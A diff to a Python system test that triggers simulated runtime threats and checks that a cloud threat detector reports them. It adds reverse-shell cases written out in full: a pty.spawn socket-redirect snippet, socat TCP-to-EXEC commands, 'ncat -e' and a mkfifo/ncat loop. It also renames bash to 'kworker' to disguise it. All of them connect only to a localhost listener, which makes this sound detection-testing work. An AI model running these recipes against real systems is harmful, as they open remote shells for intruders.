@@ -4,8 +4,10 @@ from __future__ import annotations
 
 import contextlib
 import os
+import re
 import shutil
 import socket
+import ssl
 import struct
 import subprocess
 import sys
@@ -27,6 +29,7 @@ from tests.system import deeds
 from tests.system.running import WAIT_S
 from tests.system.running import Found
 from tests.system.running import Run
+from tests.system.running import wait_for
 from tests.unit.collector.test_guardduty import wrong
 
 PROC = "DefenseEvasion:Runtime/ProcessInjection.Proc"
@@ -35,8 +38,11 @@ WRITE = "DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite"
 ANTI_DEBUGGING = "DefenseEvasion:Runtime/PtraceAntiDebugging"
 ELEVATION = "PrivilegeEscalation:Runtime/ElevationToRoot"
 SHELL = "Execution:Runtime/SuspiciousShellCreated"
-OURS = (ELEVATION, SHELL, PROC, PTRACE, WRITE, ANTI_DEBUGGING)
+REVERSE_SHELL = "Execution:Runtime/ReverseShell"
+OURS = (REVERSE_SHELL, ELEVATION, SHELL, PROC, PTRACE, WRITE, ANTI_DEBUGGING)
 
+SOCAT = os.path.realpath(shutil.which("socat") or "socat")
+NCAT = os.path.realpath(shutil.which("ncat") or "ncat")
 SLEEP = os.path.realpath("/bin/sleep")
 
 
@@ -237,7 +243,7 @@ def a_shell_by_socat(_: Path) -> Done:
         client = connected_to(port)
         with client, client.makefile("rb") as said:
             client.sendall(b"echo pid=$$=\n")
-            pid = next(int(line.split(b"=")[1]) for line in said if line.startswith(b"pid=") and b"$" not in line)
+            pid = next(int(found[1]) for line in said if (found := PID.search(line)))
             client.sendall(b"exit\n")
         server.kill()
     return Done(pid, deeds.SH)
@@ -254,6 +260,60 @@ def connected_to(port: int) -> socket.socket:
             time.sleep(0.05)
 
 
+PID = re.compile(rb"pid=(\d+)=")
+"""What a shell answers; a terminal sends the question back, too, and colours."""
+
+
+class Listener:
+    """Whoever waits for the reverse shells: says one line to each that calls, and hears its answer."""
+
+    def __init__(self, server: socket.socket) -> None:
+        self.server = server
+        self.port = server.getsockname()[1]
+
+    def shell(self, context: ssl.SSLContext | None = None) -> int:
+        """Ask the shell that calls for its pid, and send it away."""
+        self.server.settimeout(WAIT_S)
+        called, _ = self.server.accept()
+        called.settimeout(WAIT_S)
+        talk = called if context is None else context.wrap_socket(called, server_side=True)
+        with talk, talk.makefile("rb") as said:
+            talk.sendall(b"echo pid=$$=\n")
+            pid = next(int(found[1]) for line in said if (found := PID.search(line)))
+            time.sleep(deeds.HASHED_S)
+            talk.sendall(b"exit\n")
+        return pid
+
+
+def calling(*argv: str | Path, found: str = "shell", **options: Any) -> Callable[[Path], Done]:
+    """Return the deed of a program that connects home, `{port}` in its arguments, and hands on to a shell.
+
+    The finding names the shell, or, with `found` the name of a program, who holds the connection.
+    """
+
+    def do(directory: Path) -> Done:
+        shell = copied(deeds.BASH, directory, "kworker")
+        with socket.create_server(("127.0.0.1", 0)) as server:
+            home = Listener(server)
+            words = [str(word).format(port=home.port, dir=directory, shell=shell) for word in argv]
+            with deeds.beside(*words, stderr=subprocess.DEVNULL, stdout=subprocess.DEVNULL, **options) as child:
+                pid = home.shell()
+                child.kill()
+        return Done(pid, None) if found == "shell" else Done(-1, found, (pid, str(shell)))
+
+    return do
+
+
+PTY_SPAWN = """
+import os, pty, socket, sys
+home = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
+for fd in (0, 1, 2):
+    os.dup2(home.fileno(), fd)
+pty.spawn([sys.argv[2], "--norc", "-i"])
+"""
+RING = "cd {dir}; mkfifo f; cat f | {shell} --norc -i 2>&1 | {{ sleep 0.2; exec ncat 127.0.0.1 {port} >f; }}"
+
+
 FIRING: dict[str, tuple[str, Callable[[Path], Done]]] = {
     **{f"simulate {name}": (name, simulated(name)) for name in OURS},
     "the memory of another": (PROC, memory_opened),
@@ -267,12 +327,23 @@ FIRING: dict[str, tuple[str, Callable[[Path], Done]]] = {
     "an interpreter with a capability": (ELEVATION, an_interpreter_with_a_capability),
     "a terminal for a client": (SHELL, a_terminal_for_a_client),
     "a shell on an accepted connection": (SHELL, an_accepted_connection),
+    "pty.spawn": (REVERSE_SHELL, calling(sys.executable, "-c", PTY_SPAWN.replace("{", "{{"), "{port}", "{shell}")),
     "TRACEME of a child": (ANTI_DEBUGGING, asks_after_daemonizing),
 }
 
 
 if shutil.which("socat") is not None:
     FIRING["a bind shell by socat"] = (SHELL, a_shell_by_socat)
+    for name, how in (("a terminal", ",pty,stderr,setsid"), ("a socket pair", ""), ("pipes", ",pipes")):
+        words = ("socat", "TCP:127.0.0.1:{port}", "EXEC:{shell} --norc -i" + how)
+        FIRING[f"socat and {name}"] = (REVERSE_SHELL, calling(*words))
+    FIRING["socat, connected when the shell is there"] = (
+        REVERSE_SHELL,
+        calling("socat", "EXEC:{shell} --norc -i,pty,setsid", "TCP:127.0.0.1:{port}", found=SOCAT),
+    )
+if shutil.which("ncat") is not None:
+    FIRING["ncat -e"] = (REVERSE_SHELL, calling("ncat", "-e", "{shell}", "127.0.0.1", "{port}"))
+    FIRING["a FIFO and ncat"] = (REVERSE_SHELL, calling("sh", "-c", RING, found=NCAT))
 
 
 class Fired(NamedTuple):
@@ -288,12 +359,23 @@ class Fired(NamedTuple):
         return details
 
 
+def target_of(found: Found) -> int | None:
+    """Return the pid of the process that it was done to."""
+    target = found.document["service"]["runtimeDetails"]["context"].get("targetProcess", {}).get("pid")
+    return None if target is None else int(target)
+
+
 @pytest.fixture(scope="module", params=FIRING)
 def fired(run: Run, tmp_path_factory: pytest.TempPathFactory, request: pytest.FixtureRequest) -> Fired:
     """A deed that was done and found."""
     type_, deed = FIRING[request.param]
     done = deed(tmp_path_factory.mktemp("deed"))
-    return Fired(done, run.finding(type_, done.pid))
+    if done.pid >= 0:
+        return Fired(done, run.finding(type_, done.pid))
+    assert done.target is not None
+    pid = done.target[0]
+    wait_for(lambda: [one for one in run.findings if one.type == type_ and target_of(one) == pid], run.said)
+    return Fired(done, next(one for one in run.findings if one.type == type_ and target_of(one) == pid))
 
 
 def test_a_deed_is_found(fired: Fired) -> None:
